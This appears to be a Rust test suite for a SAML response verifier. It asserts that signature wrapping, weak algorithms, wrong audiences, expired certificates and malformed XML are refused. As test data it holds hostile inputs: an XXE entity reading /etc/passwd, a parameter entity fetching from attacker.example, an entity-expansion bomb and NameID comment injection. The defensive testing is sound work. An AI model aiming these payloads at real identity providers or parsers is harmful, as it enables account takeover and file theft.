//! Responses that are refused, and by which check. What was changed before signing is signed by the identity provider's
//! own key: no case is refused merely because the signature does not fit.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use domain::Timestamp;
use domain::sso::Check;
use saml::{IdentityProvider, SamlVerifier as _, Verifier};

use crate::support::response::{
    AES256_CBC, AES256_GCM, NAME_ID, OAEP, Signed, changed, changed_and, encrypted, good, part, sign,
    unsigned,
};
use crate::support::sign::{ENVELOPED, EXCLUSIVE, HMAC_SHA256, RSA_SHA1, SHA1, Signer};
use crate::support::{
    NEXT_KEY, OLD_CERTIFICATE, STRANGER_CERTIFICATE, STRANGER_KEY, certificate, form, form_of, idp, now,
    pending, refused, report, sp,
};

const BOTH_WAYS: [Signed; 3] = [Signed::Assertion, Signed::Response, Signed::Both];

/// The change is refused by this check, whatever is signed.
fn all_refused(check: Check, cases: &[(&str, &str, &str)]) {
    for (case, from, to) in cases {
        for signed in BOTH_WAYS {
            refused(&format!("{case}, {signed:?}"), check, &report(&changed_and(from, to, signed)));
        }
    }
}

fn by(idp: &IdentityProvider, xml: &str) -> saml::Report {
    Verifier.verify(&sp(), idp, Some(&pending()), &form(xml), now())
}

#[test]
fn a_form_with_no_or_two_messages_is_refused() {
    let good = String::from_utf8(form(&good())).unwrap();
    let (message, _) = good.split_once('&').unwrap();
    for (case, form) in [
        ("empty", String::new()),
        ("another field", message.replace("SAMLResponse", "SAMLRequest")),
        ("twice", format!("{message}&{message}")),
        ("not Base64", message.replacen("SAMLResponse=", "SAMLResponse=_", 1)),
        ("blanks in it", message.replacen("SAMLResponse=", "SAMLResponse=+", 1)),
        ("cut", message[..message.len() - 3].to_owned()),
    ] {
        let report = Verifier.verify(&sp(), &idp(), Some(&pending()), form.as_bytes(), now());
        refused(case, Check::Form, &report);
    }
    let utf16: Vec<u8> = unsigned().encode_utf16().flat_map(u16::to_be_bytes).collect();
    let form = form_of(&STANDARD.encode([&b"\xfe\xff"[..], &utf16].concat()));
    refused("UTF-16", Check::Form, &Verifier.verify(&sp(), &idp(), Some(&pending()), &form, now()));
}

#[test]
fn xml_that_readers_differ_on_is_refused() {
    for (case, from, to) in [
        ("a comment in NameID", NAME_ID, "ada@contoso.example<!-- -->.attacker.example"),
        ("CDATA in NameID", NAME_ID, "<![CDATA[ada@contoso.example]]>"),
        ("a processing instruction in NameID", NAME_ID, "ada@contoso.example<?x y?>"),
        ("a comment elsewhere", "<samlp:Status>", "<samlp:Status><!-- -->"),
        ("a stylesheet", "<samlp:Response ", "<?xml-stylesheet href='x'?><samlp:Response "),
        ("U+2028", NAME_ID, "ada\u{2028}@contoso.example"),
        ("U+0085", NAME_ID, "ada\u{85}@contoso.example"),
        ("a reference to a control character", NAME_ID, "ada&#x85;@contoso.example"),
    ] {
        // Signed over what a reader without the strange thing sees, and over what one with it sees.
        let strange = unsigned().replacen(from, to, 1);
        for signed in BOTH_WAYS {
            refused(case, Check::Xml, &report(&sign(&strange, signed, &Signer::default())));
            let after = sign(&unsigned(), signed, &Signer::default()).replacen(from, to, 1);
            refused(case, Check::Xml, &report(&after));
        }
    }
}

#[test]
fn document_types_and_entities_are_refused() {
    let bomb = r#"<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>"#;
    let outside = r#"<!DOCTYPE r [<!ENTITY c SYSTEM "file:///etc/passwd">]>"#;
    let parameter = r#"<!DOCTYPE r [<!ENTITY % c SYSTEM "https://attacker.example/x">%c;]>"#;
    for (case, prolog, name) in [
        ("DOCTYPE", "<!DOCTYPE r>", NAME_ID),
        ("an entity", r#"<!DOCTYPE r [<!ENTITY c "ada">]>"#, "&c;@contoso.example"),
        ("a bomb of entities", bomb, "&c;"),
        ("an entity from outside", outside, "&c;"),
        ("a parameter entity", parameter, NAME_ID),
        ("an entity that nobody declared", "", "&c;@contoso.example"),
    ] {
        let xml = format!("{prolog}{}", good().replacen(NAME_ID, name, 1));
        refused(case, Check::Xml, &report(&xml));
    }
}

#[test]
fn xml_that_is_not_well_formed_is_refused() {
    for (case, xml) in [
        ("nothing", String::new()),
        ("no XML", "hello".to_owned()),
        ("cut", good()[..1_000].to_owned()),
        ("two roots", format!("{0}{0}", good())),
        ("text after it", format!("{}x", good())),
        ("another version", format!("<?xml version=\"1.1\"?>{}", good())),
        ("another encoding", format!("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{}", good())),
        ("a prefix without a namespace", good().replacen("<saml:Subject>", "<x:Subject>", 1)),
        ("an attribute twice", good().replacen(" ID=\"_a1\"", " ID=\"_a1\" ID=\"_a1\"", 1)),
    ] {
        refused(case, Check::Xml, &report(&xml));
    }
}

#[test]
fn another_message_than_a_response_is_refused() {
    let good = good();
    let assertion = crate::support::response::assertion_of(&good);
    refused("a bare assertion", Check::Shape, &report(assertion));
    for root in ["LogoutResponse", "ArtifactResponse", "AuthnRequest", "response"] {
        let xml = unsigned().replace("samlp:Response", &format!("samlp:{root}"));
        for signed in BOTH_WAYS {
            refused(root, Check::Shape, &report(&sign(&xml, signed, &Signer::default())));
        }
    }
    let other = unsigned().replace("SAML:2.0:protocol", "SAML:1.0:protocol");
    refused("SAML 1.0", Check::Shape, &report(&sign(&other, Signed::Response, &Signer::default())));
    all_refused(
        Check::Shape,
        &[("a Response of another version", r#"ID="_r1" Version="2.0""#, r#"ID="_r1" Version="2.1""#)],
    );
    let xml = changed(r#"ID="_a1" Version="2.0""#, r#"ID="_a1" Version="1.1""#);
    refused("an assertion of another version", Check::Shape, &report(&xml));
}

#[test]
fn another_shape_is_refused_even_when_it_is_signed() {
    let subject = part(&unsigned(), "<saml:Subject>", "</saml:Subject>").to_owned();
    let name = part(&unsigned(), "<saml:NameID ", "</saml:NameID>").to_owned();
    let conditions = part(&unsigned(), "<saml:Conditions ", "</saml:Conditions>").to_owned();
    let statement = part(&unsigned(), "<saml:AuthnStatement ", "</saml:AuthnStatement>").to_owned();
    let twice = |part: &str| format!("{part}{part}");
    all_refused(
        Check::Shape,
        &[
            ("no subject", &subject, ""),
            ("two subjects", &subject, &twice(&subject)),
            ("no NameID", &name, ""),
            ("two NameIDs", &name, &twice(&name)),
            ("an element in NameID", NAME_ID, "<saml:x>ada@contoso.example</saml:x>"),
            ("an attribute in the assertion that is not known", r#"ID="_a1""#, r#"ID="_a1" x="y""#),
            ("no conditions", &conditions, ""),
            ("two conditions", &conditions, &twice(&conditions)),
            ("a condition that nobody knows", "</saml:Conditions>", "<saml:Condition/></saml:Conditions>"),
            ("no AuthnStatement", &statement, ""),
            ("holder of key", "cm:bearer", "cm:holder-of-key"),
            ("sender vouches", "cm:bearer", "cm:sender-vouches"),
            ("advice", "<saml:AuthnStatement ", "<saml:Advice/><saml:AuthnStatement "),
            ("extensions", "<samlp:Status>", "<samlp:Extensions/><samlp:Status>"),
            ("an element of another namespace", "<samlp:Status>", r#"<x xmlns="urn:x"/><samlp:Status>"#),
            ("text between elements", "<samlp:Status>", "x<samlp:Status>"),
            ("an element in a value", ">Everyone<", "><saml:NameID>x</saml:NameID><"),
            ("a relative namespace", r#"ID="_a1""#, r#"xmlns:x="relative" ID="_a1""#),
            ("an empty namespace", "<saml:AttributeValue>", r#"<saml:AttributeValue xmlns="">"#),
            ("a day that does not exist", "2026-12-01T10:55:00Z", "2026-12-41T10:55:00Z"),
            ("a time that is not UTC", "2026-12-01T10:55:00Z", "2026-12-01T10:55:00+00:00"),
            ("a time with ten digits", "2026-12-01T10:55:00Z", "2026-12-01T10:55:00.1234567890Z"),
            ("the last second of time", "2026-12-01T10:55:00Z", "9999-12-31T23:59:59Z"),
            ("before 1970", "2026-12-01T09:55:00Z", "0001-01-01T00:00:00Z"),
            ("a time with a sign", "2026-12-01T09:55:00Z", "-2026-12-01T09:55:00Z"),
        ],
    );
}

#[test]
fn ids_are_there_once_and_without_a_namespace() {
    all_refused(
        Check::Shape,
        &[
            ("an ID with a namespace", r#"ID="_a1""#, r#"ID="_a1" xmlns:x="urn:x" x:ID="_x""#),
            ("xml:id", r#"ID="_a1""#, r#"ID="_a1" xml:id="_x""#),
            ("ID in another spelling", "<samlp:Status>", r#"<samlp:Status Id="_a1">"#),
            ("an empty ID", "<samlp:Status>", r#"<samlp:Status id="">"#),
        ],
    );
    let xml = good().replacen(r#"ID="_r1""#, r#"ID="_a1""#, 1);
    refused("the same ID twice", Check::Shape, &report(&xml));
    let xml = good().replacen("<ds:Signature ", r#"<ds:Signature Id="_a1" "#, 1);
    refused("the assertion's ID on its signature", Check::Shape, &report(&xml));
}

#[test]
fn a_failure_that_the_identity_provider_reports_is_shown_in_its_words() {
    let status = |code: &str| {
        format!(
            r#"<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:{code}"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></samlp:StatusCode><samlp:StatusMessage>AADSTS50105: not assigned</samlp:StatusMessage>"#
        )
    };
    let success = part(&unsigned(), "<samlp:StatusCode ", "/>").to_owned();
    for code in ["Responder", "Requester", "VersionMismatch", "success", ""] {
        for signed in BOTH_WAYS {
            let report = report(&changed_and(&success, &status(code), signed));
            refused(code, Check::Status, &report);
            assert_eq!(report.status.unwrap().message.as_deref(), Some("AADSTS50105: not assigned"));
            assert!(report.checks.last().unwrap().received.contains("AuthnFailed; AADSTS50105"));
        }
    }
    // So it comes in truth: without an assertion.
    let xml = changed_and(&success, &status("Responder"), Signed::Nothing);
    let bare = xml.replacen(crate::support::response::assertion_of(&xml), "", 1);
    refused("without an assertion", Check::Status, &report(&bare));
    let xml = unsigned();
    let nothing = xml.replacen(crate::support::response::assertion_of(&xml), "", 1).replacen("@R@", "", 1);
    refused("success without an assertion", Check::Shape, &report(&nothing));
}

#[test]
fn r24_another_issuer_is_refused() {
    let other = "<saml:Issuer>https://sts.windows.net/other/</saml:Issuer>";
    let issuer = part(&unsigned(), "<saml:Issuer>", "</saml:Issuer>").to_owned();
    let in_assertion = format!("{issuer}@A@");
    all_refused(
        Check::Issuer,
        &[
            ("of the Response", &issuer, other),
            ("of the assertion", &in_assertion, &format!("{other}@A@")),
            ("none of the assertion", &in_assertion, "@A@"),
            ("an empty one", &in_assertion, "<saml:Issuer></saml:Issuer>@A@"),
            (
                "without its slash",
                &in_assertion,
                "<saml:Issuer>https://sts.windows.net/1f2e3d4c</saml:Issuer>@A@",
            ),
            ("in capitals", &in_assertion, "<saml:Issuer>HTTPS://sts.windows.net/1f2e3d4c/</saml:Issuer>@A@"),
        ],
    );
}

#[test]
fn r25_what_was_sent_to_another_address_is_refused() {
    let acs = "https://rollcall.example/saml/acs";
    let destination = format!(r#" Destination="{acs}""#);
    let recipient = format!(r#" Recipient="{acs}""#);
    all_refused(
        Check::Recipient,
        &[
            ("another Destination", &destination, r#" Destination="https://other.example/saml/acs""#),
            ("an empty Destination", &destination, r#" Destination="""#),
            ("a longer Destination", &destination, &format!(r#" Destination="{acs}/""#)),
            ("another Recipient", &recipient, r#" Recipient="https://other.example/saml/acs""#),
            ("no Recipient", &recipient, ""),
            ("a Recipient in capitals", &recipient, r#" Recipient="https://ROLLCALL.example/saml/acs""#),
        ],
    );
    for signed in [Signed::Response, Signed::Both] {
        let report = report(&changed_and(&destination, "", signed));
        refused("a signed Response without Destination", Check::Recipient, &report);
    }
}

#[test]
fn r25_what_is_for_somebody_else_is_refused() {
    let restriction =
        part(&unsigned(), "<saml:AudienceRestriction>", "</saml:AudienceRestriction>").to_owned();
    let audience = part(&unsigned(), "<saml:Audience>", "</saml:Audience>").to_owned();
    let other = "<saml:Audience>https://other.example</saml:Audience>";
    all_refused(
        Check::Audience,
        &[
            ("another", &audience, other),
            ("none", &restriction, ""),
            ("an empty restriction", &audience, ""),
            ("a second Audience", &audience, &format!("{audience}{other}")),
            (
                "a second restriction",
                &restriction,
                &format!("{restriction}<saml:AudienceRestriction>{other}</saml:AudienceRestriction>"),
            ),
            ("a longer one", &audience, "<saml:Audience>https://rollcall.example/saml/acs/</saml:Audience>"),
        ],
    );
}

#[test]
fn an_answer_to_another_request_is_refused() {
    let of_response = r#" InResponseTo="_q1"><saml:Issuer>"#;
    let of_assertion = r#"<saml:SubjectConfirmationData InResponseTo="_q1""#;
    all_refused(
        Check::Request,
        &[
            ("another, Response", of_response, r#" InResponseTo="_q2"><saml:Issuer>"#),
            ("another, assertion", of_assertion, r#"<saml:SubjectConfirmationData InResponseTo="_q2""#),
            ("none, Response", of_response, "><saml:Issuer>"),
            ("none, assertion", of_assertion, "<saml:SubjectConfirmationData"),
        ],
    );
}

#[test]
fn an_unsolicited_response_is_refused_where_that_is_off() {
    let unsolicited = unsigned().replace(r#" InResponseTo="_q1""#, "");
    let mut allowing = idp();
    allowing.allow_unsolicited = true;
    for signed in BOTH_WAYS {
        let xml = sign(&unsolicited, signed, &Signer::default());
        let report = Verifier.verify(&sp(), &idp(), None, &form(&xml), now());
        refused("switched off", Check::Request, &report);
        refused("to a request that is open", Check::Request, &by(&allowing, &xml));
        // An answer whose request is not known is not one that nobody asked for.
        let answer = sign(&unsigned(), signed, &Signer::default());
        let report = Verifier.verify(&sp(), &allowing, None, &form(&answer), now());
        refused("an answer", Check::Request, &report);
        for half in [
            unsigned().replacen(r#" InResponseTo="_q1""#, "", 1),
            unsigned().replacen(r#"Data InResponseTo="_q1""#, "Data", 1),
        ] {
            let xml = sign(&half, signed, &Signer::default());
            let report = Verifier.verify(&sp(), &allowing, None, &form(&xml), now());
            refused("half an answer", Check::Request, &report);
        }
    }
}

#[test]
fn an_unsolicited_assertion_must_be_young() {
    let mut idp = idp();
    idp.allow_unsolicited = true;
    let xml = unsigned()
        .replace(r#" InResponseTo="_q1""#, "")
        .replace("09:59:58.123Z", "09:51:59Z")
        .replace("09:55:00Z", "09:51:59Z");
    for signed in BOTH_WAYS {
        let xml = sign(&xml, signed, &Signer::default());
        refused("old", Check::Time, &Verifier.verify(&sp(), &idp, None, &form(&xml), now()));
    }
}

#[test]
fn what_is_not_valid_now_is_refused() {
    all_refused(
        Check::Time,
        &[
            ("conditions have ended", "2026-12-01T10:55:00Z", "2026-12-01T09:57:00Z"),
            ("conditions have not begun", "2026-12-01T09:55:00Z", "2026-12-01T10:03:00.001Z"),
            ("no end of the conditions", r#" NotOnOrAfter="2026-12-01T10:55:00Z""#, ""),
            ("the confirmation has ended", "2026-12-01T10:05:00Z", "2026-12-01T09:57:00Z"),
            ("no end of the confirmation", r#" NotOnOrAfter="2026-12-01T10:05:00Z""#, ""),
            (
                "the confirmation has not begun",
                r#" NotOnOrAfter="2026-12-01T10:05:00Z""#,
                r#" NotBefore="2026-12-01T10:04:00Z" NotOnOrAfter="2026-12-01T10:05:00Z""#,
            ),
            ("the session has ended", "2026-12-01T18:00:00Z", "2026-12-01T09:57:00Z"),
            ("signed in later than now", "2026-12-01T09:50:00Z", "2026-12-01T10:04:00Z"),
            ("made later than now", "2026-12-01T09:59:58.123Z", "2026-12-01T10:04:00Z"),
        ],
    );
    let xml = good();
    let at = |text: &str| {
        let now: Timestamp = text.parse().unwrap();
        Verifier.verify(&sp(), &idp(), Some(&pending()), &form(&xml), now)
    };
    refused("late", Check::Time, &at("2026-12-01T10:08:00Z"));
    refused("early", Check::Time, &at("2026-12-01T09:56:58.122Z"));
}

#[test]
fn a_plain_assertion_is_refused_where_it_must_be_encrypted() {
    let mut idp = idp();
    idp.require_encryption = true;
    for signed in BOTH_WAYS {
        let xml = sign(&unsigned(), signed, &Signer::default());
        refused("plain", Check::Encryption, &by(&idp, &xml));
    }
}

#[test]
fn whatever_cannot_be_decrypted_is_refused_with_one_wording() {
    let xml = encrypted(&good(), AES256_CBC, OAEP);
    let changed = |from: &str, to: &str| {
        let value = part(&xml, from, to).to_owned();
        let (head, tail) = (&value[..from.len() + 40], &value[from.len() + 44..]);
        xml.replacen(&value, &format!("{head}AAAA{tail}"), 1)
    };
    let key = changed(
        "<xenc:EncryptedKey><xenc:EncryptionMethod Algorithm=\"http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p\"/><xenc:CipherData><xenc:CipherValue>",
        "</xenc:CipherValue>",
    );
    let data = changed("</ds:KeyInfo><xenc:CipherData><xenc:CipherValue>", "</xenc:CipherValue>");
    let mut without = sp();
    without.key = None;
    let other =
        saml_rs::crypto::encrypt_assertion(&good(), STRANGER_CERTIFICATE, AES256_GCM, OAEP, "saml").unwrap();
    let gcm = encrypted(&good(), AES256_GCM, OAEP).replacen("aes256-gcm", "aes128-gcm", 1);
    let short = xml.replacen(
        part(&xml, "</ds:KeyInfo><xenc:CipherData>", "</xenc:CipherData>"),
        "</ds:KeyInfo><xenc:CipherData><xenc:CipherValue>AAAA</xenc:CipherValue></xenc:CipherData>",
        1,
    );
    let reports = [
        ("another key", report(&other)),
        ("a changed key", report(&key)),
        ("changed data", report(&data)),
        ("another algorithm", report(&gcm)),
        ("short data", report(&short)),
        ("no key here", Verifier.verify(&without, &idp(), Some(&pending()), &form(&xml), now())),
    ];
    for (case, report) in &reports {
        // A changed block of CBC may still be a text of XML; then it is not the one that was signed.
        let check = report.failed().unwrap().check;
        assert!(check == Check::Encryption || *case == "changed data", "{case}: {check:?}");
        refused(case, check, report);
        if check == Check::Encryption {
            assert_eq!(report.failed(), reports[0].1.failed(), "{case}");
        }
    }
}

#[test]
fn encryption_that_gives_its_key_away_is_refused() {
    let xml = encrypted(&good(), AES256_CBC, OAEP);
    for (case, from, to) in [
        ("RSA 1.5", OAEP, "http://www.w3.org/2001/04/xmlenc#rsa-1_5"),
        ("Triple DES", AES256_CBC, "http://www.w3.org/2001/04/xmlenc#tripledes-cbc"),
        ("no cipher", AES256_CBC, "http://www.w3.org/2001/04/xmlenc#none"),
    ] {
        refused(case, Check::Encryption, &report(&xml.replacen(from, to, 1)));
    }
    let value = part(&xml, "</ds:KeyInfo><xenc:CipherData>", "</xenc:CipherData>");
    let reference = r#"</ds:KeyInfo><xenc:CipherData><xenc:CipherReference URI="https://attacker.example/"/></xenc:CipherData>"#;
    refused("ciphertext elsewhere", Check::Shape, &report(&xml.replacen(value, reference, 1)));
    let key = part(&xml, "<xenc:EncryptedKey>", "</xenc:EncryptedKey>").to_owned();
    let retrieval = r#"<ds:RetrievalMethod URI="https://attacker.example/"/>"#;
    refused("a key elsewhere", Check::Shape, &report(&xml.replacen(&key, retrieval, 1)));
    refused("two keys", Check::Shape, &report(&xml.replacen(&key, &format!("{key}{key}"), 1)));
}

#[test]
fn what_is_inside_an_encrypted_assertion_is_checked_as_any_other() {
    let inner = |xml: String| encrypted(&xml, AES256_GCM, OAEP);
    let unsigned = sign(&unsigned(), Signed::Nothing, &Signer::default());
    refused("not signed", Check::Signature, &report(&inner(unsigned)));
    let stranger = Signer::with(|signer| {
        (signer.key, signer.certificate) = (STRANGER_KEY, None);
    });
    let foreign = sign(&crate::support::response::unsigned(), Signed::Assertion, &stranger);
    refused("by a stranger", Check::Signature, &report(&inner(foreign)));
    let tampered = good().replacen(NAME_ID, "eve@contoso.example", 1);
    refused("changed after signing", Check::Signature, &report(&inner(tampered)));
    let comment = good().replacen(NAME_ID, "ada@contoso.example<!-- -->.x", 1);
    refused("a comment", Check::Xml, &report(&inner(comment)));
    for (check, from, to) in [
        (
            Check::Issuer,
            "<saml:Issuer>https://sts.windows.net/1f2e3d4c/</saml:Issuer>@A@",
            "<saml:Issuer>x</saml:Issuer>@A@",
        ),
        (Check::Recipient, r#" Recipient="https://rollcall.example/saml/acs""#, ""),
        (Check::Audience, "<saml:Audience>https", "<saml:Audience>http"),
        (Check::Request, r#"Data InResponseTo="_q1""#, r#"Data InResponseTo="_q2""#),
        (Check::Time, "2026-12-01T10:55:00Z", "2026-12-01T09:55:00Z"),
        (Check::NameId, NAME_ID, " "),
    ] {
        refused(from, check, &report(&inner(changed(from, to))));
    }
    let sha1 = Signer::with(|signer| signer.method = RSA_SHA1);
    let xml = sign(&crate::support::response::unsigned(), Signed::Assertion, &sha1);
    refused("SHA-1", Check::Algorithm, &report(&inner(xml)));
}

#[test]
fn a_signed_response_is_verified_before_anything_is_decrypted() {
    let xml = encrypted(&sign(&unsigned(), Signed::Nothing, &Signer::default()), AES256_CBC, OAEP);
    let marked = xml.replacen("<samlp:Status>", "@R@<samlp:Status>", 1);
    let signed = Signer::default().sign(&marked, "_r1", "@R@");
    let value = part(&signed, "</ds:KeyInfo><xenc:CipherData>", "</xenc:CipherData>").to_owned();
    let other = encrypted(&sign(&unsigned(), Signed::Nothing, &Signer::default()), AES256_CBC, OAEP);
    let other = part(&other, "</ds:KeyInfo><xenc:CipherData>", "</xenc:CipherData>");
    refused("ciphertext exchanged", Check::Signature, &report(&signed.replacen(&value, other, 1)));
}

#[test]
fn signatures_by_what_proves_nothing_are_refused() {
    type Change = fn(&mut Signer);
    let cases: [(&str, Change); 6] = [
        ("RSA with SHA-1", |signer| signer.method = RSA_SHA1),
        ("a digest by SHA-1", |signer| signer.digest = SHA1),
        ("HMAC keyed with the certificate", |signer| signer.method = HMAC_SHA256),
        ("no algorithm", |signer| signer.method = ""),
        ("canonicalization with comments", |signer| {
            signer.canonicalization = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments";
        }),
        ("a canonicalization that nobody knows", |signer| signer.canonicalization = "urn:x"),
    ];
    for (case, change) in cases {
        for signed in BOTH_WAYS {
            let xml = sign(&unsigned(), signed, &Signer::with(change));
            refused(case, Check::Algorithm, &report(&xml));
        }
    }
    let sha1 = report(&sign(&unsigned(), Signed::Assertion, &Signer::with(cases[0].1)));
    let expected = &sha1.failed().unwrap().expected;
    assert!(
        expected.contains("SAML Signing Certificate › Edit › Signing Algorithm: SHA-256"),
        "Entra's menu is named: {expected}"
    );
}

#[test]
fn transforms_and_references_other_than_the_plain_ones_are_refused() {
    let transform =
        |uri: &str, inside: &str| format!(r#"<ds:Transform Algorithm="{uri}">{inside}</ds:Transform>"#);
    let (enveloped, exclusive) = (transform(ENVELOPED, ""), transform(EXCLUSIVE, ""));
    let xpath = transform(
        "http://www.w3.org/TR/1999/REC-xpath-19991116",
        "<ds:XPath>not(ancestor-or-self::saml:Subject)</ds:XPath>",
    );
    let xslt = transform("http://www.w3.org/TR/1999/REC-xslt-19991116", "");
    let inclusive = transform("http://www.w3.org/TR/2001/REC-xml-c14n-20010315", "");
    for (case, transforms) in [
        ("XPath", vec![enveloped.clone(), xpath.clone(), exclusive.clone()]),
        ("XSLT", vec![enveloped.clone(), xslt, exclusive.clone()]),
        ("inclusive canonicalization", vec![enveloped.clone(), inclusive]),
        ("no canonicalization", vec![enveloped.clone()]),
        ("not enveloped", vec![exclusive.clone()]),
        ("the other order", vec![exclusive.clone(), enveloped.clone()]),
        ("twice", vec![enveloped.clone(), exclusive.clone(), exclusive.clone()]),
        ("none", Vec::new()),
    ] {
        for signed in BOTH_WAYS {
            let signer = Signer::with(|signer| signer.transforms.clone_from(&transforms));
            refused(case, Check::Shape, &report(&sign(&unsigned(), signed, &signer)));
        }
    }
    for uri in ["", "#", "#_r2", "#xpointer(/)", "#xpointer(id('_a1'))", "https://attacker.example/", "_a1"] {
        let signer = Signer::with(|signer| signer.uri = Some(uri));
        refused(uri, Check::Shape, &report(&sign(&unsigned(), Signed::Assertion, &signer)));
    }
}

#[test]
fn a_signature_has_one_signed_info_with_one_reference() {
    let good = good();
    let info = part(&good, "<ds:SignedInfo>", "</ds:SignedInfo>").to_owned();
    let reference = part(&good, "<ds:Reference ", "</ds:Reference>").to_owned();
    let value = part(&good, "<ds:SignatureValue>", "</ds:SignatureValue>").to_owned();
    let signature = part(&good, "<ds:Signature ", "</ds:Signature>").to_owned();
    let twice = |part: &str| format!("{part}{part}");
    for (case, from, to) in [
        ("two SignedInfo", &info, twice(&info)),
        ("two references", &reference, twice(&reference)),
        ("two values", &value, twice(&value)),
        ("two signatures", &signature, twice(&signature)),
        ("no SignedInfo", &info, String::new()),
        ("no reference", &reference, String::new()),
        ("no value", &value, String::new()),
        ("an object", &value, format!("{value}<ds:Object>x</ds:Object>")),
    ] {
        refused(case, Check::Shape, &report(&good.replacen(from, &to, 1)));
    }
    let signer = Signer::default();
    let signed_twice = signer.around(&twice(&reference));
    refused("two references, signed", Check::Shape, &report(&good.replacen(&signature, &signed_twice, 1)));
}

#[test]
fn a_response_that_nobody_signed_is_refused() {
    let xml = sign(&unsigned(), Signed::Nothing, &Signer::default());
    refused("unsigned", Check::Signature, &report(&xml));
}

#[test]
fn a_signature_by_another_key_is_refused() {
    for certificate in [None, Some(STRANGER_CERTIFICATE), Some(crate::support::IDP_CERTIFICATE)] {
        let signer = Signer::with(|signer| (signer.key, signer.certificate) = (STRANGER_KEY, certificate));
        for signed in BOTH_WAYS {
            refused("a stranger's", Check::Signature, &report(&sign(&unsigned(), signed, &signer)));
        }
    }
    // One good signature does not make up for one that is not.
    let xml = sign(&unsigned(), Signed::Assertion, &Signer::default());
    let marked = xml.replacen("<samlp:Status>", "@R@<samlp:Status>", 1);
    let stranger = Signer::with(|signer| (signer.key, signer.certificate) = (STRANGER_KEY, None));
    let xml = stranger.sign(&marked, "_r1", "@R@");
    refused("a stranger's around a good one", Check::Signature, &report(&xml));
}

#[test]
fn whatever_is_changed_after_signing_is_noticed() {
    for signed in BOTH_WAYS {
        let xml = sign(&unsigned(), signed, &Signer::default());
        for (case, from, to) in [
            ("NameID", NAME_ID, "eve@contoso.example"),
            ("a group", ">Everyone<", ">Admins<"),
            ("the session", r#"SessionIndex="_s1""#, r#"SessionIndex="_s2""#),
            ("the end", "2026-12-01T10:55:00Z", "2026-12-01T10:56:00Z"),
            ("a blank", "<saml:Subject>", "<saml:Subject> "),
        ] {
            refused(case, Check::Signature, &report(&xml.replacen(from, to, 1)));
        }
    }
    let xml = sign(&unsigned(), Signed::Response, &Signer::default());
    let xml = xml.replacen("09:59:58.123Z", "09:59:58.124Z", 1);
    refused("IssueInstant of a signed Response", Check::Signature, &report(&xml));
}

#[test]
fn a_signature_taken_away_or_moved_is_refused() {
    for signed in BOTH_WAYS {
        let xml = sign(&unsigned(), signed, &Signer::default());
        let signature = part(&xml, "<ds:Signature ", "</ds:Signature>").to_owned();
        let stripped = xml.replacen(&signature, "", 1);
        if signed != Signed::Both {
            refused("stripped", Check::Signature, &report(&stripped));
        }
        for place in ["<saml:Subject>", "<samlp:Status>", "<saml:AttributeStatement>", "<saml:AuthnContext>"]
        {
            let moved = stripped.replacen(place, &format!("{place}{signature}"), 1);
            refused(place, Check::Shape, &report(&moved));
        }
    }
    let xml = good();
    let signature = part(&xml, "<ds:Signature ", "</ds:Signature>").to_owned();
    let moved =
        xml.replacen(&signature, "", 1).replacen("<samlp:Status>", &format!("{signature}<samlp:Status>"), 1);
    refused("the assertion's signature in the Response", Check::Shape, &report(&moved));
}

#[test]
fn r24_an_expired_certificate_proves_nothing_any_more() {
    let signer = Signer::with(|signer| (signer.key, signer.certificate) = (NEXT_KEY, None));
    let mut idp = idp();
    idp.certificates = vec![certificate(OLD_CERTIFICATE)];
    for signed in BOTH_WAYS {
        let report = by(&idp, &sign(&unsigned(), signed, &signer));
        refused("the only one", Check::Signature, &report);
        let received = &report.failed().unwrap().received;
        assert!(received.contains("The certificate CN=old.example expired on 2026-01-02."), "{received}");
    }
    idp.certificates.push(certificate(crate::support::IDP_CERTIFICATE));
    let report = by(&idp, &sign(&unsigned(), Signed::Both, &signer));
    refused("beside a good one", Check::Signature, &report);
    assert!(report.failed().unwrap().received.contains("expired on 2026-01-02"));
    idp.certificates.clear();
    refused("none at all", Check::Signature, &by(&idp, &good()));
}

#[test]
fn r26_a_name_that_cannot_be_a_username_is_refused() {
    let long = format!("{}@contoso.example", "a".repeat(250));
    all_refused(
        Check::NameId,
        &[
            ("empty", NAME_ID, ""),
            ("blanks", NAME_ID, " \n "),
            ("too long", NAME_ID, &long),
            ("a line end in it", NAME_ID, "ada\n@contoso.example"),
            ("a tab in it", NAME_ID, "ada\t@contoso.example"),
            ("a character as a number", NAME_ID, "&#97;da@contoso.example"),
        ],
    );
}
